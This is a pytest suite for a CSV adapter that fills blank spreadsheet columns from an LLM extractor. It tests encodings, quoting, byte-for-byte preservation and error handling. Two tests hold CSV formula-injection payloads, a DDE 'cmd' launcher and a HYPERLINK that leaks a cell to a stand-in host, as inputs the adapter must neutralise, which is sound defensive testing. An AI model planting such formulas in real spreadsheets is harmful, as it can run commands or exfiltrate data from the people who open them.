"""The CSV adapter on its own, with a real extractor whose fake server answers per row."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from fieldwise_csv import fill
from pydantic import BaseModel

from fieldwise.exceptions import ProviderError
from fieldwise.tables import TableError
from fieldwise.testing import FakeLLM


class Address(BaseModel):
    city: str | None = None
    country: str | None = None


class Lead(BaseModel):
    company: str | None = None
    size: int | None = None
    since: date | None = None
    active: bool | None = None
    address: Address | None = None
    tags: list[str] = []


class Company(BaseModel):
    company: str | None = None


def answer(text: str) -> Any:
    if "BOOM" in text:
        return ProviderError("upstream failed", status_code=502)
    first = text.split()[0].strip(",.;") if text.split() else "x"
    return {
        "company": first.upper(),
        "size": len(text),
        "since": "2024-01-02",
        "active": True,
        "address": {"city": "Paris", "country": None},
        "tags": ["a", "b"],
    }


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def rows(path: Path, encoding: str = "utf-8-sig", delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as stream:
        return list(csv.reader(stream, delimiter=delimiter))


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


TRICKY = (
    "id;notes;company;extra\r\n"
    '1;"Acme, Inc. said ""hello""\r\nand more";;keep me\r\n'
    "2;Globex builds things;PRESET;x\r\n"
    '3;"BOOM; this row fails";;y\r\n'
    "4;;;empty notes\r\n"
    '5;"Ünïcödé Straße";;"quoted"\r\n'
)


def test_round_trip_keeps_every_original_byte_but_the_targets(stub: Any, tmp_path: Path) -> None:
    source = tmp_path / "leads.csv"
    source.write_bytes(b"\xef\xbb\xbf" + TRICKY.encode())
    before = sha(source)
    extractor = stub(answer)

    report = fill(source, target=Lead, sources=["notes"], extractor=extractor)

    assert sha(source) == before
    out = tmp_path / "leads.filled.csv"
    assert report["output"] == str(out)
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # BOM kept
    old, new = rows(source, delimiter=";"), rows(out, delimiter=";")
    assert new[0] == [*old[0], "size", "since", "active", "address.city", "address.country", "tags"]
    assert len(new) == len(old)
    for old_row, new_row in zip(old, new, strict=True):  # every original column kept
        for i, value in enumerate(old_row):
            if i != 2:  # "company" is a target
                assert new_row[i] == value
    assert new[1][2] == "ACME" and new[1][5:8] == ["2024-01-02", "true", "Paris"]
    assert new[1][9] == '["a","b"]'
    assert new[2][2] == "PRESET"  # only_empty: the filled cell stays
    assert new[2][3] == "x" and new[2][4] == "20"  # ...while its blank cells are filled
    assert new[3][2:] == ["", "y", "", "", "", "", "", ""]  # failed: original values kept
    assert new[4][4:] == ["", "", "", "", "", ""]  # blank notes: no call
    assert new[5][2] == "ÜNÏCÖDÉ"
    assert extractor.seen == [
        'Acme, Inc. said "hello"\r\nand more',
        "Globex builds things",
        "BOOM; this row fails",
        "Ünïcödé Straße",
    ]
    assert report["done"] == 3 and report["failed"] == 1 and report["no_input"] == 1
    assert report["planned"] == 4 and report["rows"] == 5
    assert report["tokens"] > 0 and report["cost"] > 0  # the fake's usage, summed
    # line endings and the quoted field of the untouched row are as they were
    assert data.count(b"\r\n") == TRICKY.encode().count(b"\r\n")
    assert b'"quoted"' in data


def test_unchanged_rows_are_copied_byte_for_byte(stub: Any, tmp_path: Path) -> None:
    text = 'notes,company\n"a ""quoted"" note", Keep\n"b",\n'
    source = write(tmp_path / "t.csv", text)
    fill(source, target=Lead, sources=["notes"], extractor=stub(answer), status_columns=False)
    out = (tmp_path / "t.filled.csv").read_text()
    first, second = out.splitlines()[1:3]
    # row 1 only gains empty new cells; its odd quoting and leading space survive
    assert first.startswith('"a ""quoted"" note", Keep,')
    assert second.startswith('"b",B,')  # a changed row keeps its other cells' bytes too


def test_only_empty_and_overwrite(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes,company,size\nalpha,KEEP,7\nbeta,,\n")
    extractor = stub(answer)
    fill(source, target=Lead, sources=["notes"], extractor=extractor)
    new = rows(tmp_path / "t.filled.csv")
    assert new[1][1:3] == ["KEEP", "7"] and new[2][1:3] == ["BETA", "4"]
    assert new[1][3] == "2024-01-02"  # the row still had blank targets

    fill(
        source,
        target=Lead,
        sources=["notes"],
        extractor=stub(answer),
        only_empty=False,
        output=tmp_path / "o.csv",
    )
    assert rows(tmp_path / "o.csv")[1][1:3] == ["ALPHA", "5"]


def test_row_with_every_target_filled_is_not_sent(stub: Any, tmp_path: Path) -> None:
    header = "notes,company,size,since,active,address.city,address.country,tags"
    source = write(tmp_path / "t.csv", f"{header}\nfull,A,1,2020-01-01,true,X,Y,[]\nnew,,,,,,,\n")
    extractor = stub(answer)
    report = fill(source, target=Lead, sources=["notes"], extractor=extractor)
    assert extractor.seen == ["new"]
    assert report["unchanged"] == 1 and report["created_columns"] == []


def test_several_sources_are_labelled(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "subject,notes\nHi,Acme called\n")
    extractor = stub(answer)
    fill(source, target=Lead, sources=["notes", "subject"], extractor=extractor)
    assert extractor.seen == ["notes: Acme called\nsubject: Hi"]


def test_status_columns(stub: Any, fake_llm: FakeLLM, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes\nfine\nBOOM\n")
    report = fill(
        source, target=Lead, sources=["notes"], extractor=stub(answer), status_columns=True
    )
    new = rows(tmp_path / "t.filled.csv")
    status = new[0].index("_status")
    assert [r[status] for r in new[1:]] == ["ok", "error"]
    url = f"{fake_llm.base_url}/chat/completions"
    assert new[2][status + 1].startswith(f"ProviderError: HTTP 502 from {url}: upstream failed.")
    assert new[2][1:status] == [""] * (status - 1)
    assert report["failed"] == 1


def test_missing_column_fails_before_any_call(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes,company\na,\n")
    before = sha(source)
    extractor = stub(answer)
    with pytest.raises(TableError, match=r"no column 'nope'.*Columns found: 'notes', 'company'"):
        fill(source, target=Lead, sources=["nope"], extractor=extractor)
    assert extractor.inputs_type is None
    assert sha(source) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]


def test_source_that_is_also_a_target_is_refused(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "company\na\n")
    with pytest.raises(TableError, match="both a source"):
        fill(source, target=Lead, sources=["company"], extractor=stub(answer))


def test_in_place_replaces_atomically(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes\nalpha\n")
    source.chmod(0o640)
    fill(source, target=Lead, sources=["notes"], extractor=stub(answer), in_place=True)
    assert rows(source)[1][1] == "ALPHA"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]
    assert source.stat().st_mode & 0o777 == 0o640


def test_output_onto_the_input_needs_in_place(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes\nalpha\n")
    with pytest.raises(TableError, match="--in-place"):
        fill(source, target=Lead, sources=["notes"], extractor=stub(answer), output=source)


def test_failure_while_writing_leaves_no_temp_file(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes\nalpha\n")

    def interrupt(summary: Any) -> None:  # Ctrl-C while the rows are being written
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        fill(source, target=Lead, sources=["notes"], extractor=stub(answer), on_progress=interrupt)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]


def test_cp1252_and_tab_separated(stub: Any, tmp_path: Path) -> None:
    text = "notes\tcompany\ncafé crème\t\nnaïve\t\n"
    source = write(tmp_path / "t.tsv", text, encoding="cp1252")
    fill(source, target=Lead, sources=["notes"], extractor=stub(answer))
    out = tmp_path / "t.filled.tsv"
    new = rows(out, encoding="cp1252", delimiter="\t")
    assert new[1][:2] == ["café crème", "CAFÉ"]
    assert out.read_bytes().startswith(b"notes\tcompany\tsize")


def test_characters_the_encoding_cannot_hold_are_reported(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes\ncafé\n", encoding="cp1252")
    warnings: list[str] = []
    fill(
        source,
        target=Lead,
        sources=["notes"],
        extractor=stub(lambda t: {"company": "東京"}),
        warn=warnings.append,
    )
    assert rows(tmp_path / "t.filled.csv", encoding="cp1252")[1][1] == "??"
    assert "cp1252 cannot store" in warnings[0]


def test_limit_dry_run_and_lazy_inputs(stub: Any, tmp_path: Path) -> None:
    body = "".join(f"row {i}\n" for i in range(50))
    source = write(tmp_path / "t.csv", "notes\n" + body)
    extractor = stub(answer)
    report = fill(source, target=Lead, sources=["notes"], extractor=None, dry_run=True, limit=5)
    assert report["planned"] == 5 and report["first_input"] == "row 0"
    assert report["input_chars"] == 25
    assert not (tmp_path / "t.filled.csv").exists()

    totals: list[int] = []
    report = fill(
        source,
        target=Lead,
        sources=["notes"],
        extractor=extractor,
        limit=5,
        on_total=totals.append,
        concurrency=3,
        max_cost=1.5,
    )
    assert totals == [5] and extractor.seen == [f"row {i}" for i in range(5)]
    assert extractor.options["concurrency"] == 3 and extractor.options["max_cost"] == 1.5
    assert extractor.inputs_type is not None
    assert not issubclass(extractor.inputs_type, (list, tuple))  # fed lazily
    new = rows(tmp_path / "t.filled.csv")
    assert new[5][1] == "ROW" and new[6][1] == ""


@pytest.mark.parametrize(
    ("answer", "written"),
    [
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),  # OWASP's DDE payload
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ('-.5+HYPERLINK("http://x?leak="&A2,"y")', '\'-.5+HYPERLINK("http://x?leak="&A2,"y")'),
        ("- 1+cmd|x", "'- 1+cmd|x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\n=1+1", "'\n=1+1"),
        ("-5", "-5"),
        ("+1,200.50", "+1,200.50"),
        ("-3e4", "-3e4"),
        ("-12%", "-12%"),
        ("+44 (20) 7946-0958", "+44 (20) 7946-0958"),
        ("-", "-"),
        ("plain text", "plain text"),
    ],
)
def test_model_output_never_reaches_a_spreadsheet_as_a_formula(
    stub: Any, tmp_path: Path, answer: str, written: str
) -> None:
    source = write(tmp_path / "t.csv", "notes\na\n")
    fill(source, target=Lead, sources=["notes"], extractor=stub(lambda t: {"company": answer}))
    assert rows(tmp_path / "t.filled.csv")[1][1] == written


def test_formula_like_output_is_neutralised(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes\na\nb\nc\n")
    replies = {"a": '=HYPERLINK("x")', "b": "+1 555 0100", "c": "-cmd|x"}
    fill(source, target=Lead, sources=["notes"], extractor=stub(lambda t: {"company": replies[t]}))
    new = rows(tmp_path / "t.filled.csv")
    assert [r[1] for r in new[1:]] == ['\'=HYPERLINK("x")', "+1 555 0100", "'-cmd|x"]


def test_empty_file_is_a_clear_error(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "")
    with pytest.raises(TableError, match="empty"):
        fill(source, target=Lead, sources=["notes"], extractor=stub(answer))


def test_sniffer_fooled_by_punctuation_still_finds_the_column(stub: Any, tmp_path: Path) -> None:
    text = "notes;company\nhello, world, again;\nfoo, bar, baz;\n"
    source = write(tmp_path / "t.csv", text)
    extractor = stub(answer)
    fill(source, target=Lead, sources=["notes"], extractor=extractor)
    assert extractor.seen == ["hello, world, again", "foo, bar, baz"]
    assert (
        io.StringIO((tmp_path / "t.filled.csv").read_text())
        .readline()
        .startswith("notes;company;size")
    )


def test_utf16_and_all_quoted_files_keep_their_form(stub: Any, tmp_path: Path) -> None:
    text = '"notes","company"\r\n"acme",""\r\n"globex","KEEP"\r\n'
    source = tmp_path / "t.csv"
    source.write_bytes(text.encode("utf-16"))
    fill(source, target=Lead, sources=["notes"], extractor=stub(answer))
    data = (tmp_path / "t.filled.csv").read_bytes()
    assert data.startswith(b"\xff\xfe")
    decoded = data.decode("utf-16")
    assert decoded.startswith('"notes","company","size"')
    assert decoded.splitlines()[1].startswith('"acme","ACME","4"')
    assert decoded.splitlines()[2].startswith('"globex","KEEP","6"')


def test_extra_fields_under_new_columns_are_refused(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "notes,company\na,,stray value\n")
    with pytest.raises(TableError, match="row 2 has 3 fields"):
        fill(source, target=Lead, sources=["notes"], extractor=stub(answer))
    trailing = write(tmp_path / "u.csv", "notes,company\na,,\n")  # an empty extra: fine
    fill(trailing, target=Lead, sources=["notes"], extractor=stub(answer))
    assert rows(tmp_path / "u.filled.csv")[1][:3] == ["a", "A", "1"]


def test_apostrophes_in_double_quoted_text_do_not_change_the_quote(
    stub: Any, tmp_path: Path
) -> None:
    # csv.Sniffer reads 'urgent', 'vip' as quoting and guesses quotechar="'"
    text = "id,notes\n1,\"Tags: 'urgent', 'vip', 'new', 'hot'\"\n2,\"Smith, John works at Acme\"\n"
    source = write(tmp_path / "t.csv", text)
    extractor = stub(answer)
    fill(source, target=Lead, sources=["notes"], extractor=extractor)
    assert extractor.seen == ["Tags: 'urgent', 'vip', 'new', 'hot'", "Smith, John works at Acme"]
    new = rows(tmp_path / "t.filled.csv")
    assert new[1][:3] == ["1", "Tags: 'urgent', 'vip', 'new', 'hot'", "TAGS:"]
    assert new[2][:3] == ["2", "Smith, John works at Acme", "SMITH"]


def test_in_place_fill_with_apostrophes_keeps_the_file_intact(stub: Any, tmp_path: Path) -> None:
    text = (
        "notes,company,address.city,tags\n"
        "\"a, 'b', 'c'\",,,\n"
        '"Acme Ltd, London",,,\n'
        '"Globex",,,\n'
    )
    source = write(tmp_path / "t.csv", text)
    extractor = stub(lambda t: {"company": f"{t.split(',')[0]}, Inc", "tags": ["x", "y"]})
    fill(source, target=Lead, sources=["notes"], extractor=extractor, in_place=True)
    assert extractor.seen == ["a, 'b', 'c'", "Acme Ltd, London", "Globex"]
    lines = source.read_text().splitlines()
    assert lines[1].startswith('"a, \'b\', \'c\'","a, Inc",,"[""x"",""y""]"')
    assert [r[:4] for r in rows(source)[1:]] == [
        ["a, 'b', 'c'", "a, Inc", "", '["x","y"]'],
        ["Acme Ltd, London", "Acme Ltd, Inc", "", '["x","y"]'],
        ["Globex", "Globex, Inc", "", '["x","y"]'],
    ]


def test_a_multi_line_field_is_not_cut_by_apostrophe_quoting(stub: Any, tmp_path: Path) -> None:
    # Read with ' as the quote, the record splits into two rows as wide as the header
    text = 'id,notes\r\n1,"line1\r\nline2, Smith"\r\n2,it\'s fine\r\n'
    source = write(tmp_path / "t.csv", text)
    extractor = stub(lambda t: {"company": "X"})
    fill(source, target=Company, sources=["notes"], extractor=extractor)
    assert extractor.seen == ["line1\r\nline2, Smith", "it's fine"]
    assert (tmp_path / "t.filled.csv").read_bytes() == (
        b'id,notes,company\r\n1,"line1\r\nline2, Smith",X\r\n2,it\'s fine,X\r\n'
    )


def test_a_file_quoted_with_apostrophes_is_read_as_such(stub: Any, tmp_path: Path) -> None:
    source = write(tmp_path / "t.csv", "id,notes,company\n1,'Smith, John',\n2,'Acme, Inc',\n")
    extractor = stub(answer)
    fill(source, target=Lead, sources=["notes"], extractor=extractor)
    assert extractor.seen == ["Smith, John", "Acme, Inc"]
    assert (
        (tmp_path / "t.filled.csv")
        .read_text()
        .splitlines()[1]
        .startswith("1,'Smith, John',SMITH,11,")
    )


def test_spaces_after_separators_are_kept(stub: Any, tmp_path: Path) -> None:
    # A space after every separator makes csv.Sniffer say skipinitialspace; a row it has
    # to re-serialise (the stray quote) then lost the spaces of its other cells.
    text = 'notes, company, other\nhe said 5" pipe,, keep\n'
    source = write(tmp_path / "t.csv", text)
    extractor = stub(answer)
    fill(source, target=Lead, sources=["notes"], extractor=extractor)
    assert extractor.seen == ['he said 5" pipe']
    lines = (tmp_path / "t.filled.csv").read_text().splitlines()
    assert lines[0].startswith("notes, company, other,size")
    assert lines[1].startswith('he said 5" pipe,HE, keep,15,')


def test_spaced_quoted_fields_are_read_and_kept(stub: Any, tmp_path: Path) -> None:
    text = 'id, notes, company\n1, "Smith, John", \n2, "Acme, Inc",\n'
    source = write(tmp_path / "t.csv", text)
    extractor = stub(answer)
    fill(source, target=Lead, sources=["notes"], extractor=extractor)
    assert extractor.seen == ["Smith, John", "Acme, Inc"]
    lines = (tmp_path / "t.filled.csv").read_text().splitlines()
    assert lines[1].startswith('1, "Smith, John",SMITH,')
    assert lines[2].startswith('2, "Acme, Inc",ACME,')


@pytest.mark.parametrize("codec", ["utf-16-be", "utf-16-le"])
def test_utf16_keeps_its_byte_order(stub: Any, tmp_path: Path, codec: str) -> None:
    text = "\ufeffnotes,company\r\nalpha,KEEP\r\nbeta,\r\n"
    source = tmp_path / "t.csv"
    source.write_bytes(text.encode(codec))
    extractor = stub(answer)
    fill(source, target=Company, sources=["notes"], extractor=extractor)
    assert extractor.seen == ["beta"]  # the BOM is not part of the first column's name
    expected = "\ufeffnotes,company\r\nalpha,KEEP\r\nbeta,BETA\r\n"
    assert (tmp_path / "t.filled.csv").read_bytes() == expected.encode(codec)
